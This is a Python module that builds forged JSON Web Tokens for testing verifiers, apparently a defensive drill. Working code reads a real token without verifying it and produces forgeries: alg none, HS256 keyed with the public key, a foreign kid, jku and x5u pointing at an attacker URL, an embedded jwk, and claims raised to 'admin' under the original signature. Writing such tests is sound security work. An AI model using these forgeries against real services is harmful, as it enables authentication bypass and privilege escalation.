"""Tokens as an attacker makes them: a real access token read without verifying it, and the
same claims re-signed in each way a careless verifier accepts (RFC 8725 section 2): no
signature, the public key used as an HMAC secret, a key of the attacker's named by a `kid`
the issuer never had, a key the token points at (`jku`, `x5u`) or carries (`jwk`), and the
real `kid` over the attacker's signature. Built by hand, byte for byte, so no library's
own refusals stand between the forgery and the verifier under test."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

__all__ = ["DrillKey", "b64url", "forgeries", "public_pem", "read_jwt", "unb64url"]


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64url(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def read_jwt(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """Header and claims of a compact JWS, unverified (ValueError or TypeError when it is
    not one)."""
    parts = token.split(".")
    if len(parts) != 3:
        raise ValueError("not a compact JWS")
    header, claims = (json.loads(unb64url(part)) for part in parts[:2])
    if not isinstance(header, dict) or not isinstance(claims, dict):
        raise TypeError("not a JWT")
    return header, claims


def _jws(header: dict[str, Any], claims: dict[str, Any], sign: Any) -> str:
    signing_input = f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(claims).encode())}"
    return f"{signing_input}.{b64url(sign(signing_input.encode()))}"


class DrillKey:
    """A fresh P-256 key of the drill's (an attacker's, or a service's), with its public JWK."""

    def __init__(self, name: str = "drill-attacker") -> None:
        self.kid = f"{name}-{secrets.token_hex(4)}"
        self._key = ec.generate_private_key(ec.SECP256R1())
        numbers = self._key.public_key().public_numbers()
        self.jwk = {
            "kty": "EC",
            "crv": "P-256",
            "x": b64url(numbers.x.to_bytes(32, "big")),
            "y": b64url(numbers.y.to_bytes(32, "big")),
            "kid": self.kid,
            "alg": "ES256",
            "use": "sig",
        }

    def sign(self, data: bytes) -> bytes:
        """ES256: the raw r || s form JWS uses."""
        r, s = decode_dss_signature(self._key.sign(data, ec.ECDSA(hashes.SHA256())))
        return r.to_bytes(32, "big") + s.to_bytes(32, "big")

    def es256(self, header: dict[str, Any], claims: dict[str, Any]) -> str:
        return _jws({**header, "alg": "ES256"}, claims, self.sign)


def public_pem(jwk: dict[str, Any]) -> bytes:
    """The PEM of a published P-256 JWK: what a confused verifier would use as HMAC key."""
    numbers = ec.EllipticCurvePublicNumbers(
        int.from_bytes(unb64url(jwk["x"]), "big"),
        int.from_bytes(unb64url(jwk["y"]), "big"),
        ec.SECP256R1(),
    )
    return numbers.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def forgeries(token: str, published: dict[str, Any], attacker_url: str) -> dict[str, str]:
    """By name, the forged versions of `token` (same claims; `published` is the issuer's
    JWK of the token's `kid`; `attacker_url` where a `jku`/`x5u` would send the verifier)."""
    header, claims = read_jwt(token)
    attacker = DrillKey()
    pem = public_pem(published)
    signing_input, _, signature = token.rpartition(".")
    changed = {**claims, "roles": [*claims.get("roles", []), "admin"]}
    own = {k: v for k, v in header.items() if k != "alg"}
    return {
        "alg none": _jws({**own, "alg": "none"}, claims, lambda _: b""),
        "HS256 keyed with the published public key": _jws(
            {**own, "alg": "HS256"},
            claims,
            lambda data: hmac.new(pem, data, hashlib.sha256).digest(),
        ),
        "a foreign kid": attacker.es256({**own, "kid": attacker.kid}, claims),
        "the real kid over another key's signature": attacker.es256(own, claims),
        "a jku naming the attacker's key set": attacker.es256(
            {**own, "kid": attacker.kid, "jku": f"{attacker_url}/jwks.json"}, claims
        ),
        "an x5u naming the attacker's certificate": attacker.es256(
            {**own, "kid": attacker.kid, "x5u": f"{attacker_url}/cert.pem"}, claims
        ),
        "an embedded jwk": attacker.es256(
            {**own, "kid": attacker.kid, "jwk": attacker.jwk}, claims
        ),
        "claims changed under the real signature": (
            f"{signing_input.split('.')[0]}.{b64url(json.dumps(changed).encode())}.{signature}"
        ),
    }
